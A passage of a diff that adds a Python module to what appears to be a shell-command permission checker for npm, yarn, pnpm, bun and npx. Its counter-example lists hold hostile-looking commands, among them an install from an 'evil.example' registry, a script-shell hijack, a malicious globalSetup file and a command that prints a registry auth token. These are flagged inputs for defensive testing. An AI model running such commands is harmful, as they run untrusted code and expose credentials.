@@ -1,0 +1,1246 @@
+"""npm, yarn, pnpm, bun and the runners npx and bunx; node and deno.
+
+A script of package.json is the project's own code: allowed by the profile `node-dev`, keyed by the script's name, in the project. Every
+option of npm is also a setting (`--script-shell`, `--node-options`, `--prefix`), so only listed ones pass.
+"""
+
+from __future__ import annotations
+
+from askfirst.model import Action, Kind, Word
+from askfirst.shell.call import Outcome
+from askfirst.shell.tools.engine import apply, call_after, facts_of, row, unknown
+from askfirst.shell.tools.options import parse
+from askfirst.shell.tools.project_code import from_lock, place_facts, project_file, runner
+from askfirst.shell.tools.table import Effect, Tool
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Any
+
+    from askfirst.model import Fact
+    from askfirst.shell.call import Analyst, Call
+
+__all__ = ["TOOLS", "is_risky_script", "script_arguments"]
+
+INERT, READS, WRITES, NONE, BELOW = Effect.INERT, Effect.READS, Effect.WRITES, Effect.NONE, Effect.WRITES_BELOW
+_RISKY = (
+    "deploy",
+    "publish",
+    "release",
+    "destroy",
+    "drop",
+    "reset",
+    "wipe",
+    "purge",
+    "rollback",
+    "upload",
+    "prod",
+    "production",
+    "push",
+    "nuke",
+    "seed",
+    "migrate",
+    "eject",
+    "ship",
+    "apply",
+    "prepublish",
+    "prepare",
+    "install",
+    "preinstall",
+    "postinstall",
+    "rm",
+    "uninstall",
+    "delete",
+)
+# Parts of option names that make a runner load other code, whatever the runner is called.
+_LOADS = (
+    "config",
+    "setup",
+    "teardown",
+    "require",
+    "import",
+    "loader",
+    "plugin",
+    "preset",
+    "resolver",
+    "transform",
+    "rootdir",
+    "exec",
+    "shell",
+    "eval",
+    "register",
+    "inspect",
+    "node-option",
+    "nodeoption",
+    "prefix",
+    "cwd",
+    "runner",
+    "processor",
+    "rulesdir",
+    "serializer",
+)
+_LOADS_FILES = ("reporter", "format", "env", "parser", "filter", "provider", "pool", "syntax", "ui")
+
+
+def is_risky_script(name: str) -> bool:
+    """Scripts whose names say that they leave the machine or destroy data: asked for also with the profile."""
+    words = (
+        name.lower().replace(":", " ").replace("-", " ").replace("_", " ").replace("/", " ").replace(".", " ").split()
+    )
+    return (
+        bool(words)
+        and words[0] not in ("build", "test", "lint", "check", "typecheck")
+        and any(w in _RISKY for w in words)
+    )
+
+
+def script_arguments(words: tuple[Word, ...], call: Call, by: str) -> list[Fact]:
+    """Arguments for a runner that is not named here: `npm test -- --globalSetup=…` reaches whatever `test` runs."""
+    for index, word in enumerate(words):
+        text = word.value
+        if text is None:
+            if not word.glob and not word.prefix:
+                return [
+                    unknown("expansion", f"`{word.text}` may become an option of what `{by}` runs", call, word.text)
+                ]
+            text = word.prefix
+        name, _, value = text.partition("=")
+        value = value or (words[index + 1].text if index + 1 < len(words) else "")
+        if _loads(name, value):
+            return [unknown("option", f"`{word.text}` may make `{by}` load other code", call, word.text)]
+        if "{" in text and '"' in text:
+            return [unknown("option", f"`{word.text}` may hold settings", call, word.text)]
+    return []
+
+
+def _loads(option: str, value: str) -> bool:
+    """Whether an option of whatever runner may load code: by its name, or because its value is a file where a name is usual."""
+    if option.startswith("--"):
+        name = option.lower()
+        return any(part in name for part in _LOADS) or (
+            any(part in name for part in _LOADS_FILES) and is_code_file(value)
+        )
+    if option.startswith("-"):
+        return option[1:2] in ("c", "r", "e") or (option[1:2] in ("f", "R", "u") and is_code_file(value))
+    return False
+
+
+def is_code_file(value: str) -> bool:
+    """`./evil.js` where a reporter's or a format's name is expected."""
+    return value.startswith((".", "/", "~")) or value.endswith((".js", ".cjs", ".mjs", ".ts", ".cts", ".mts"))
+
+
+def run_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`npm run NAME [-- ARGUMENTS]`. Without a name it lists the scripts."""
+    head, tail = _split(call)
+    parsed = parse(tool, head.words[1:])
+    if not parsed.operands:
+        return Outcome(
+            Action(tuple(tool.name.split()), Kind.READ, rule=tool.name, allowed=True, description="lists the scripts"),
+            facts_of(tool, head, parsed, analyst),
+        )
+    name = parsed.operands[0].value
+    return _script(
+        (*tool.name.split(), name or ""),
+        tool,
+        call,
+        analyst,
+        facts_of(tool, head, parsed, analyst),
+        (*parsed.operands[1:], *tail),
+        name,
+    )
+
+
+def named_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`npm test`, `npm start`: the script is the sub-command."""
+    head, tail = _split(call)
+    parsed = parse(tool, head.words[1:])
+    return _script(
+        tuple(tool.name.split()),
+        tool,
+        call,
+        analyst,
+        facts_of(tool, head, parsed, analyst),
+        (*parsed.operands, *tail),
+        tool.name.rpartition(" ")[2],
+    )
+
+
+def _script(
+    key: tuple[str, ...],
+    tool: Tool,
+    call: Call,
+    analyst: Analyst,
+    facts: tuple[Fact, ...],
+    arguments: tuple[Word, ...],
+    name: str | None,
+) -> Outcome:
+    by = " ".join(key)
+    more = [*place_facts(tool, call, analyst), *script_arguments(arguments, call, by)]
+    if name is None:
+        more.append(unknown("expansion", "the script's name is not known", call))
+    if name == "env":
+        more.append(
+            unknown("secrets", "where package.json has no such script, `env` prints every environment variable", call)
+        )
+    if name is None or is_risky_script(name):
+        return Outcome(
+            Action(
+                key,
+                Kind.BUILD,
+                rule=tool.name,
+                description="runs a script of package.json whose name says that it changes more than files",
+            ),
+            (*facts, *more),
+        )
+    return Outcome(
+        Action(
+            key,
+            Kind.BUILD,
+            rule=tool.name,
+            allowed=True,
+            profile="node-dev",
+            description="runs a script of package.json",
+        ),
+        (*facts, *more),
+    )
+
+
+def _split(call: Call) -> tuple[Call, tuple[Word, ...]]:
+    """The words before and behind `--`: what stands behind goes to the script."""
+    for index, word in enumerate(call.words):
+        if word.value == "--":
+            return call.replace(words=call.words[:index]), call.words[index + 1 :]
+    return call, ()
+
+
+def packages(operands: tuple[Word, ...]) -> str:
+    return " ".join(w.value if w.value is not None else w.text for w in operands)
+
+
+_NPM_FLAGS = (
+    "-s --silent -q --quiet -d -dd -ddd --verbose --json --color --no-color --if-present --workspaces -ws "
+    "--include-workspace-root -iwr --no-audit --no-fund --offline --prefer-offline "
+    "--all -a --long -l --parseable -p --no-progress --no-update-notifier --production --link --unicode -h --help"
+)
+_NPM_VALUES = (
+    "--loglevel -w --workspace --omit --include --depth --audit-level --package-lock-only --searchlimit --before"
+)
+_NPM_ASKS = {
+    "--prefix -C": "works on another package",
+    "--script-shell": "runs another shell",
+    "--node-options": "loads other code",
+    "--registry": "uses another registry",
+    "-g --global": "works on the whole machine",
+    "--userconfig --globalconfig": "uses other settings",
+    "--editor --browser --viewer --git --shell --node-gyp": "runs a program",
+    "--ignore-scripts --no-ignore-scripts": "changes which scripts run",
+}
+
+
+def _npm(
+    program: str,
+    name: str,
+    description: str,
+    *,
+    kind: Kind = Kind.READ,
+    flags: str = "",
+    asks: dict[str, str] | None = None,
+    **more: Any,
+) -> Tool:
+    more.setdefault("operands", INERT)
+    return Tool(
+        f"{program} {name}",
+        kind,
+        description,
+        key_words=2,
+        flags=f"{_NPM_FLAGS} {flags}",
+        values=f"{_NPM_VALUES} {more.pop('values', '')}",
+        asks=_NPM_ASKS if asks is None else asks,
+        **more,
+    )
+
+
+def _install(program: str, name: str, description: str, kind: Kind = Kind.INSTALL, **more: Any) -> Tool:
+    return Tool(
+        f"{program} {name}".strip(),
+        kind,
+        description,
+        allowed=False,
+        any_options=True,
+        operands=INERT,
+        key_words=2,
+        target=packages,
+        **more,
+    )
+
+
+def _config_get(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    outcome = apply(tool.replace(special=None), call, analyst)
+    secret = next(
+        (
+            w
+            for w in call.words
+            if any(s in (w.value or w.text).lower() for s in ("_auth", "_password", "token", "//", "key", "secret"))
+        ),
+        None,
+    )
+    return (
+        outcome
+        if secret is None
+        else outcome.replace(
+            facts=(*outcome.facts, unknown("secret", "shows a registry's password or token", call, secret.text))
+        )
+    )
+
+
+_NO_GLOBAL = {k: v for k, v in _NPM_ASKS.items() if not k.startswith("-g")}
+_LOOKS: dict[str, str] = {
+    "ls list la ll": "lists installed packages",
+    "outdated": "lists outdated packages",
+    "view v info show": "shows a package of the registry",
+    "why explain": "says why a package is installed",
+    "search s se find": "searches the registry",
+    "prefix root bin": "shows a directory",
+    "ping": "asks the registry whether it answers",
+    "fund": "lists funding",
+    "doctor": "checks the installation",
+    "query": "finds installed packages",
+    "sbom": "lists components",
+    "help help-search": "shows help",
+    "licenses": "lists licences",
+    "completion": "shows completions",
+    "stars": "lists favourites",
+    "diff": "compares published packages",
+    "whoami": "says who is logged in",
+}
+
+
+def _npm_rows() -> dict[str, Tool]:
+    rows: dict[str, Tool] = {}
+    for names, description in _LOOKS.items():
+        for name in names.split():
+            rows[name] = _npm(
+                "npm",
+                name,
+                description,
+                flags="-g --global --omit-lockfile-registry-resolved --expect-results --diff-name-only --versions --description",
+                asks=_NO_GLOBAL,
+                values="--sbom-format --sbom-type --diff-unified --expect-result-count",
+                effects={"--diff": READS},
+            )
+    for alias in ("run", "run-script", "rum", "urn"):
+        rows[alias] = _npm("npm", "run", "runs a script of package.json", kind=Kind.BUILD, special=run_script)
+    for alias, name in (
+        ("test", "test"),
+        ("t", "test"),
+        ("tst", "test"),
+        ("start", "start"),
+        ("stop", "stop"),
+        ("restart", "restart"),
+    ):
+        rows[alias] = _npm("npm", name, "runs a script of package.json", kind=Kind.BUILD, special=named_script)
+    rows |= {
+        "audit": _npm(
+            "npm",
+            "audit",
+            "looks for known weaknesses",
+            operands=NONE,
+            counter_examples=("npm audit fix",),
+            examples=("npm audit --omit=dev",),
+        ),
+        "config": Tool(
+            "npm config",
+            Kind.READ,
+            "shows settings",
+            key_words=2,
+            subcommands={
+                "get": _npm(
+                    "npm",
+                    "config get",
+                    "shows a setting",
+                    special=_config_get,
+                    examples=("npm config get registry",),
+                    counter_examples=("npm config get //registry.npmjs.org/:_authToken",),
+                ),
+                "list": _npm("npm", "config list", "shows settings", operands=NONE),
+                "ls": _npm("npm", "config ls", "shows settings", operands=NONE),
+            },
+            counter_examples=("npm config set script-shell /tmp/evil",),
+        ),
+        "get": _npm("npm", "get", "shows a setting", special=_config_get),
+        "cache": Tool(
+            "npm cache",
+            Kind.READ,
+            "the cache",
+            key_words=2,
+            subcommands={"ls": _npm("npm", "cache ls", "lists the cache")},
+            counter_examples=("npm cache add x",),
+        ),
+        "pkg": Tool(
+            "npm pkg",
+            Kind.READ,
+            "package.json",
+            key_words=2,
+            subcommands={"get": _npm("npm", "pkg get", "shows package.json")},
+            counter_examples=("npm pkg set scripts.test=x",),
+        ),
+        "access": Tool(
+            "npm access",
+            Kind.READ,
+            "who may publish",
+            key_words=2,
+            subcommands={
+                "list": _npm("npm", "access list", "shows who may publish"),
+                "get": _npm("npm", "access get", "shows who may publish"),
+            },
+        ),
+        "owner": Tool(
+            "npm owner",
+            Kind.READ,
+            "who may publish",
+            key_words=2,
+            subcommands={"ls": _npm("npm", "owner ls", "shows who may publish")},
+        ),
+        "dist-tag": Tool(
+            "npm dist-tag",
+            Kind.READ,
+            "tags of a package",
+            key_words=2,
+            subcommands={"ls": _npm("npm", "dist-tag ls", "lists tags")},
+        ),
+        "version": _npm("npm", "version", "shows versions", operands=NONE),
+        "pack": _npm(
+            "npm",
+            "pack",
+            "packs this package",
+            kind=Kind.BUILD,
+            special=runner,
+            profile="node-dev",
+            operands=NONE,
+            flags="--dry-run",
+        ),
+        "exec": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
+        "x": _install("npm", "exec", "runs a program of a package, fetched if need be", Kind.WRAPPER),
+        "publish": _install(
+            "npm",
+            "publish",
+            "publishes this package",
+            Kind.NETWORK,
+            danger="publishes to the registry: others install it, and it can hardly be taken back",
+        ),
+        "unpublish": _install(
+            "npm",
+            "unpublish",
+            "removes a published package",
+            Kind.DESTRUCTIVE,
+            danger="removes a published package that others depend on",
+        ),
+        "rebuild": _install("npm", "rebuild", "runs build scripts of installed packages"),
+        "init": _install("npm", "init", "makes a package, or runs an initializer"),
+    }
+    for names, what in (
+        (
+            "install i in ins inst insta instal isnt isnta isntal isntall add",
+            "fetches and installs packages, and runs their scripts",
+        ),
+        ("update up upgrade udpate", "updates packages"),
+        ("uninstall un remove rm r unlink", "removes packages"),
+        ("link ln", "links a package"),
+        ("dedupe prune", "changes installed packages"),
+    ):
+        for name in names.split():
+            rows[name] = _install("npm", names.split()[0], what)
+    for name in ("ci", "clean-install", "ic", "install-clean", "isntall-clean"):
+        rows[name] = _npm(
+            "npm",
+            "ci",
+            "installs what the lock file says",
+            kind=Kind.INSTALL,
+            special=from_lock,
+            profile="node-dev",
+            operands=NONE,
+            flags="--ignore-scripts --legacy-peer-deps --no-bin-links --strict-peer-deps",
+            asks={k: v for k, v in _NPM_ASKS.items() if "--ignore-scripts" not in k},
+            examples=("npm ci", "npm ci --no-audit --no-fund"),
+            counter_examples=(
+                "npm ci --registry https://evil.example",
+                "npm ci --script-shell=x",
+                "npm ci --prefix /tmp/x",
+            ),
+        )
+    rows["c"] = rows["config"]
+    for name in ("exec", "x"):
+        rows[name] = rows[name].replace(
+            special=execute,
+            examples=("npm exec tsc -- --noEmit", "npm exec -- eslint ."),
+            counter_examples=("npm exec evil", "npm exec -c x", "npm exec -p evil tsc", "npm exec -- touch x"),
+        )
+    return rows
+
+
+def execute(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """`npm exec tsc -- --noEmit`: a well-known tool of the project counts as what it is."""
+    words = tuple(w for w in call.words[1:] if w.value != "--")
+    return as_tool(tuple(tool.name.split()), words, call, analyst) or row(tool, call, analyst)
+
+
+def as_tool(key: tuple[str, ...], words: tuple[Word, ...], call: Call, analyst: Analyst) -> Outcome | None:
+    """What a tool that the tables know does when a package manager starts it; None when it is another program."""
+    from askfirst.shell.tools.node.tools import SCOPED
+    from askfirst.shell.tools.node.tools import TOOLS as tools
+
+    name = (words[0].value if words else None) or ""
+    known = tools.get(SCOPED.get(name, name))
+    if known is None:
+        return None
+    outcome = apply(known, call_after(call, words[1:]), analyst)
+    return outcome.replace(action=outcome.action.replace(key=(*key, *outcome.action.key)))
+
+
+_NPM = Tool(
+    "npm",
+    Kind.READ,
+    "packages and scripts of Node",
+    key_words=2,
+    flags=f"{_NPM_FLAGS} -v --version",
+    values="--loglevel -w --workspace",
+    asks=_NPM_ASKS,
+    subcommands=_npm_rows(),
+    examples=(
+        "npm --version",
+        "npm test",
+        "npm test -- --watch=false",
+        "npm run build -- argument --option",
+        "npm t",
+        "npm ls --global",
+        "npm view react version",
+        "npm run",
+        "npm run test -- src/foo.test.ts",
+    ),
+    counter_examples=(
+        "npm run build --script-shell=/tmp/evil",
+        "npm --prefix=/tmp/evilpkg t",
+        "npm -C /tmp/evilpkg run build",
+        "npm test -- --globalSetup=/tmp/evil.js",
+        "npm --loglevel silent exec evil",
+        "npm urn test --prefix /tmp/evilpkg",
+        "npm run deploy",
+        "npm install evil",
+        "npm ls --node-options=x",
+        "npm exec -c x",
+        "npm init evil",
+        "npm run $x",
+        "npm test -- --config ./x.js",
+    ),
+)
+
+_YARN_LOOK = _npm("yarn", "list", "shows packages", flags="-R -A --recursive --pattern --name-only --strict")
+_PNPM_LOOK = _npm(
+    "pnpm",
+    "list",
+    "shows packages",
+    flags="-r --recursive -P -D --dev --prod --no-optional --compatible --only-projects -g --global",
+    asks=_NO_GLOBAL,
+    values="--filter -F --format",
+)
+
+# -- yarn and pnpm: a word that is no command of theirs is a script ---------------------------------------------------------------------
+
+_YARN_LOOKS = "why info list outdated audit versions licenses check help constraints"
+_YARN_ASKS = frozenset(
+    "add remove upgrade up install init create dlx exec node link unlink global publish pack cache config set plugin "
+    "patch patch-commit rebuild import login logout npm owner tag team "
+    "upgrade-interactive version autoclean policies generate-lock-entry dedupe unplug stage search workspaces bin "
+    "dir env".split()
+)
+_SCRIPTS = frozenset(
+    "test build lint typecheck type-check types check format fmt dev start compile clean coverage e2e unit integration "
+    "ci validate verify docs storybook bundle tsc eslint jest vitest prettier".split()
+)
+
+
+def yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """What yarn does. A repository may bring its own yarn and plugins along: then even the version is the project's own code."""
+    outcome = _yarn(tool, call, analyst)
+    if outcome.action.profile or not outcome.action.allowed or not _brings_yarn(call, analyst):
+        return outcome
+    return outcome.replace(action=outcome.action.replace(profile="node-dev"))
+
+
+def _brings_yarn(call: Call, analyst: Analyst) -> bool:
+    folder = call.cwd or analyst.project
+    while True:
+        for name, marks in ((".yarnrc.yml", ("yarnPath", "plugins")), (".yarnrc", ("yarn-path",))):
+            text = analyst.read_file(f"{folder}/{name}") or ""
+            if any(mark in text for mark in marks):
+                return True
+        if len(folder) <= len(analyst.project):
+            return False
+        folder = folder.rpartition("/")[0]
+
+
+def _yarn(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    head, tail = _split(call)
+    parsed = parse(tool, head.words[1:], stop_at_operand=True)
+    facts = list(facts_of(tool, head, parsed.__class__(parsed.given, (), parsed.doubts), analyst))
+    rest = head.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
+    if not rest:
+        if parsed.has("-v", "--version", "-h", "--help"):
+            return Outcome(
+                Action(
+                    (tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version"
+                ),
+                tuple(facts),
+            )
+        return _frozen(tool, head, analyst, facts)
+    name = rest[0].value
+    if name == "workspace" and len(rest) > 2:
+        rest, name = rest[2:], rest[2].value
+    elif name == "workspaces" and len(rest) > 2 and rest[1].value in ("foreach", "run"):
+        at = next((i for i, w in enumerate(rest[1:], 2) if w.value == "run"), len(rest))
+        known = all(w.value in _FOREACH for w in rest[2 : at - 1])
+        if known and at < len(rest):
+            rest, name = rest[at:], rest[at].value
+    if name == "run" and len(rest) == 1:
+        return Outcome(
+            Action((tool.name, "run"), Kind.READ, rule=tool.name, allowed=True, description="lists the scripts"),
+            tuple(facts),
+        )
+    if name == "install":
+        return _frozen(tool, call_after(call, rest[1:]), analyst, facts)
+    if name == "run" and len(rest) > 1:
+        rest, name = rest[1:], rest[1].value
+    elif name in ("exec", "dlx"):
+        found = as_tool((tool.name, name), (*rest[1:], *tail), call, analyst)
+        return (
+            found.replace(facts=(*facts, *found.facts)) if found else _known_yarn(tool, name, rest, call, tuple(facts))
+        )
+    elif name in _YARN_ASKS:
+        return _known_yarn(tool, name, rest, call, tuple(facts))
+    if name is not None and name in _YARN_LOOKS.split():
+        return _shown(tool, name, _YARN_LOOK, call_after(call, rest[1:]), analyst, facts)
+    arguments = (*rest[1:], *tail)
+    facts += [
+        unknown("option", f"`{w.text}` comes before the script", call, w.text)
+        for w in rest[:1]
+        if w.value is None or w.value.startswith("-")
+    ]
+    if name is not None and not _has_script(name, call, analyst):
+        found = as_tool((tool.name, "run"), (*rest, *tail), call, analyst)
+        if found is not None:
+            return found.replace(facts=(*facts, *found.facts))
+        if not _sounds_like_script(name):
+            return Outcome(
+                Action(
+                    (tool.name, "run", name),
+                    Kind.WRAPPER,
+                    rule=tool.name,
+                    description="runs a script or a program of a package",
+                    target=packages(rest),
+                ),
+                tuple(facts),
+            )
+    return _script((tool.name, "run", name or ""), tool, call, analyst, tuple(facts), arguments, name)
+
+
+_FOREACH = frozenset(
+    "-A --all -p --parallel -t --topological -v --verbose -pt -pv -ptv -Apt -Ap -At -W --worktree -R --recursive -i -j".split()
+)
+
+
+def _sounds_like_script(name: str) -> bool:
+    return name in _SCRIPTS or ":" in name or name.partition("-")[0] in _SCRIPTS
+
+
+def _frozen(tool: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
+    """An installation that leaves the lock file as it is comes from the team; any other asks."""
+    frozen = Tool(
+        f"{tool.name} install",
+        Kind.INSTALL,
+        "installs what the lock file says",
+        profile="node-dev",
+        key_words=2,
+        operands=NONE,
+        flags="--frozen-lockfile --immutable --immutable-cache --ignore-scripts --offline --prefer-offline --silent -s --no-progress "
+        "--non-interactive --check-cache --inline-builds --production -P --prod -D --dev --no-optional -r --recursive",
+        values="--reporter",
+    )
+    outcome = from_lock(frozen, call, analyst)
+    if not parse(frozen, call.words[1:]).has("--frozen-lockfile", "--immutable"):
+        action = outcome.action.replace(
+            allowed=False, profile="", description="installs packages, and may change the lock file"
+        )
+        return Outcome(action.replace(target=packages(call.words[1:])), tuple(facts))
+    return outcome.replace(facts=(*facts, *outcome.facts))
+
+
+def _shown(tool: Tool, name: str, row: Tool, call: Call, analyst: Analyst, facts: list[Fact]) -> Outcome:
+    outcome = apply(row, call, analyst)
+    return outcome.replace(
+        action=outcome.action.replace(key=(tool.name, name), rule=f"{tool.name} {name}"), facts=(*facts, *outcome.facts)
+    )
+
+
+def _known_yarn(tool: Tool, name: str, rest: tuple[Word, ...], call: Call, facts: tuple[Fact, ...]) -> Outcome:
+    second = rest[1].value if len(rest) > 1 else None
+    looks = {
+        ("config", "get"),
+        ("config", "list"),
+        ("cache", "dir"),
+        ("cache", "list"),
+        ("workspaces", "list"),
+        ("workspaces", "info"),
+        ("npm", "info"),
+        ("npm", "whoami"),
+        ("npm", "audit"),
+        ("bin", None),
+        ("version", None),
+    }
+    secret = any(s in (w.value or w.text).lower() for w in rest for s in ("auth", "token", "password", "secret"))
+    if (name, second) in looks and not secret and not any((w.value or "-").startswith("-") for w in rest[2:]):
+        return Outcome(
+            Action(
+                (tool.name, name, second or ""),
+                Kind.READ,
+                rule=f"{tool.name} {name}",
+                allowed=True,
+                description="shows settings or packages",
+            ),
+            facts,
+        )
+    kind = (
+        Kind.WRAPPER
+        if name in ("exec", "dlx", "node", "create", "npx")
+        else Kind.NETWORK
+        if name in ("publish", "login", "npm")
+        else Kind.INSTALL
+    )
+    return Outcome(
+        Action(
+            (tool.name, name),
+            kind,
+            rule=f"{tool.name} {name}",
+            description="changes packages or settings, or runs a program",
+            target=packages(rest[1:]),
+        ),
+        facts,
+    )
+
+
+_PNPM_LOOKS = "why ls list ll la outdated audit licenses info view show search root bin help doctor"
+_PNPM_ASKS = frozenset(
+    "add install i update up upgrade remove rm uninstall un link unlink import rebuild rb prune fetch install-test "
+    "it dedupe patch patch-commit patch-remove publish pack deploy dlx exec create init store cache "
+    "config get set env server setup self-update approve-builds ignored-builds login logout pkg version completion c "
+    "x node npx cat-file cat-index find-hash".split()
+)
+
+
+def pnpm(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """pnpm takes a word that is neither a command nor a script for a program on the PATH: only likely scripts pass."""
+    head, tail = _split(call)
+    parsed = parse(tool, head.words[1:], stop_at_operand=True)
+    facts = list(facts_of(tool, head, parsed.__class__(parsed.given, (), parsed.doubts), analyst))
+    rest = head.words[1 + parsed.stopped_at :] if parsed.stopped_at >= 0 else ()
+    if not rest:
+        return Outcome(
+            Action(
+                (tool.name, "--version"),
+                Kind.READ,
+                rule=tool.name,
+                allowed=True,
+                description="shows the version or the help",
+            ),
+            tuple(facts),
+        )
+    name = rest[0].value
+    if name in ("run", "run-script") and len(rest) > 1:
+        rest, name = rest[1:], rest[1].value
+    elif name in ("recursive", "multi", "m"):
+        return Outcome(
+            Action((tool.name, name), Kind.INSTALL, rule=tool.name, description="works on all packages"), tuple(facts)
+        )
+    elif name in ("t", "tst"):
+        name = "test"
+    elif name is not None and name in _PNPM_LOOKS.split():
+        return _shown(tool, name, _PNPM_LOOK, call_after(call, rest[1:]), analyst, facts)
+    elif name in ("install", "i"):
+        return _frozen(tool, call_after(call, rest[1:]), analyst, facts)
+    elif name in ("exec", "dlx"):
+        found = as_tool((tool.name, name), (*rest[1:], *tail), call, analyst)
+        return found.replace(facts=(*facts, *found.facts)) if found else _pnpm_known(tool, name, rest, tuple(facts))
+    elif name in _PNPM_ASKS or name in ("run", None):
+        return _pnpm_known(tool, name or "", rest, tuple(facts))
+    elif (
+        not _has_script(name, call, analyst)
+        and (found := as_tool((tool.name,), (*rest, *tail), call, analyst)) is not None
+    ):
+        return found.replace(facts=(*facts, *found.facts))
+    elif not _sounds_like_script(name) and not _has_script(name, call, analyst):
+        return Outcome(
+            Action(
+                (tool.name, name), Kind.WRAPPER, rule=tool.name, description="runs a script or a program of that name"
+            ),
+            tuple(facts),
+        )
+    return _script((tool.name, "run", name or ""), tool, call, analyst, tuple(facts), (*rest[1:], *tail), name)
+
+
+def _pnpm_known(tool: Tool, name: str, rest: tuple[Word, ...], facts: tuple[Fact, ...]) -> Outcome:
+    second = rest[1].value if len(rest) > 1 else None
+    looks = {
+        ("store", "path"),
+        ("store", "status"),
+        ("config", "list"),
+        ("server", "status"),
+        ("env", "list"),
+        ("completion", "bash"),
+        ("completion", "zsh"),
+    }
+    if (name, second) in looks and len(rest) == 2:
+        return Outcome(
+            Action(
+                (tool.name, name, second or ""),
+                Kind.READ,
+                rule=f"{tool.name} {name}",
+                allowed=True,
+                description="shows settings",
+            ),
+            facts,
+        )
+    kind = (
+        Kind.WRAPPER
+        if name in ("exec", "dlx", "create", "x", "node", "npx")
+        else Kind.NETWORK
+        if name in ("publish", "deploy")
+        else Kind.INSTALL
+    )
+    return Outcome(
+        Action(
+            (tool.name, name),
+            kind,
+            rule=f"{tool.name} {name}",
+            description="changes packages or settings, or runs a program",
+            target=packages(rest[1:]),
+        ),
+        facts,
+    )
+
+
+def _has_script(name: str, call: Call, analyst: Analyst) -> bool:
+    text = analyst.read_file(f"{call.cwd}/package.json") if call.cwd is not None else None
+    return text is not None and f'"{name}":' in text.replace('" :', '":')
+
+
+# -- bun --------------------------------------------------------------------------------------------------------------------------------
+
+
+def bun(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    words = call.words
+    first = words[1].value if len(words) > 1 else None
+    if first in ("--version", "-v", "--revision", "--help", "-h") and len(words) == 2:
+        return Outcome(
+            Action(("bun", "--version"), Kind.READ, rule="bun", allowed=True, description="shows the version")
+        )
+    if first == "test":
+        return apply(_BUN_TEST, call_after(call, words[2:]), analyst)
+    if first == "run" and len(words) > 2:
+        name = words[2].value
+        if (
+            name is None
+            or name.startswith("-")
+            or "/" in name
+            or name.endswith((".js", ".ts", ".mjs", ".cjs", ".tsx", ".jsx"))
+        ):
+            return (
+                project_file(tool, call, analyst, words[2])
+                if name is not None and not name.startswith("-")
+                else Outcome(
+                    Action(("bun", "run"), Kind.CODE, rule="bun run"),
+                    (unknown("option", "what bun would run is not known", call),),
+                )
+            )
+        arguments = tuple(w for w in words[3:] if w.value != "--")
+        if not _has_script(name, call, analyst):
+            found = as_tool(("bun", "run"), (words[2], *arguments), call, analyst)
+            if found is not None:
+                return found
+            if not _sounds_like_script(name):  # bun takes it for a program then
+                return Outcome(
+                    Action(
+                        ("bun", "run", name),
+                        Kind.WRAPPER,
+                        rule="bun run",
+                        description="runs a script or a program of that name",
+                    )
+                )
+        return _script(("bun", "run", name), tool.replace(name="bun run"), call, analyst, (), arguments, name)
+    if first == "x" and (found := as_tool(("bun", "x"), words[2:], call, analyst)) is not None:
+        return found
+    if first in ("install", "i", "ci"):
+        given = words[2:] if first != "ci" else (*words[2:], Word("--frozen-lockfile", "--frozen-lockfile"))
+        return _frozen(tool, call_after(call, given), analyst, [])
+    if (
+        first == "pm"
+        and len(words) > 2
+        and words[2].value in ("ls", "bin", "cache", "hash", "hash-string", "default-trusted", "whoami")
+        and len(words) == 3
+    ):
+        return Outcome(
+            Action(
+                ("bun", "pm", words[2].value or ""),
+                Kind.READ,
+                rule="bun pm",
+                allowed=True,
+                description="shows packages",
+            )
+        )
+    if first in ("outdated", "why", "audit") and len(words) == 2:
+        return Outcome(Action(("bun", first), Kind.READ, rule="bun", allowed=True, description="shows packages"))
+    if first is not None and first.endswith((".js", ".ts", ".mjs", ".tsx", ".jsx")):
+        return project_file(tool, call, analyst, words[1])
+    kind = Kind.INSTALL if first in ("install", "i", "add", "remove", "update", "link", "ci") else Kind.WRAPPER
+    facts = () if kind == Kind.INSTALL else (unknown("inline code", "bun runs code or a program", call),)
+    return Outcome(
+        Action(
+            ("bun", first or ""),
+            kind,
+            rule="bun",
+            description="installs packages or runs code",
+            target=packages(words[2:]),
+        ),
+        facts,
+    )
+
+
+_BUN_TEST = Tool(
+    "bun test",
+    Kind.BUILD,
+    "runs the project's tests",
+    profile="node-dev",
+    special=runner,
+    key_words=2,
+    operands=INERT,
+    flags="-u --update-snapshots --todo --only --coverage --watch --bail",
+    values="-t --test-name-pattern --timeout --rerun-each --coverage-reporter",
+    asks={
+        "--preload -r": "loads other code",
+        "-c --config": "uses other settings",
+        "--cwd": "runs elsewhere",
+        "--coverage-dir": "writes elsewhere",
+    },
+    examples=("bun test", "bun run build", "bun --version"),
+    counter_examples=(
+        "bun test --preload /tmp/x.ts",
+        "bun -e 'x()'",
+        "bun x evil",
+        "bun run ./evil.ts",
+        "bun add evil",
+        "bun run deploy",
+    ),
+)
+
+# -- npx and its kin --------------------------------------------------------------------------------------------------------------------
+
+
+def npx(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
+    """A well-known tool of the project is judged like the tool itself; anything else would be fetched and run."""
+    words, at = call.words, 1
+    while at < len(words) and words[at].value in _NPX_INERT:
+        at += 1
+    name = words[at].value if at < len(words) else None
+    if len(words) == 2 and name in ("--version", "-v", "--help", "-h"):
+        return Outcome(
+            Action((tool.name, "--version"), Kind.READ, rule=tool.name, allowed=True, description="shows the version")
+        )
+    found = as_tool((tool.name,), words[at:], call, analyst)
+    if found is not None:
+        return found
+    shown = packages(words[at:])
+    return Outcome(
+        Action(
+            (tool.name, name or ""),
+            Kind.WRAPPER,
+            rule=tool.name,
+            description="fetches a package and runs it",
+            target=shown,
+        ),
+        (unknown("package runner", f"`{tool.name}` fetches and runs what it is given", call, shown),),
+    )
+
+
+_NPX_INERT = (
+    "--no-install",
+    "--no",
+    "--offline",
+    "--silent",
